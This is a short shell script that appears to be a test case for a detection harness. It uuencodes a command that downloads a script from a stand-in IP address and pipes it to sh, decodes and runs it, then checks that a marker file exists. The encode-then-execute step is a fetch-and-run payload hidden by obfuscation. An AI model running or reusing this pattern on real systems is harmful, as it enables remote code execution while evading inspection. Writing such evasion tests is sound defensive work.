#!/bin/sh
. /opt/case/case.sh

perl -e 'print pack("u", "curl -s http://203.0.113.10/payload.sh | sh\n")' >/tmp/mail
perl -ne 'print unpack("u", $_)' /tmp/mail | sh
test -e /tmp/reached
took_place
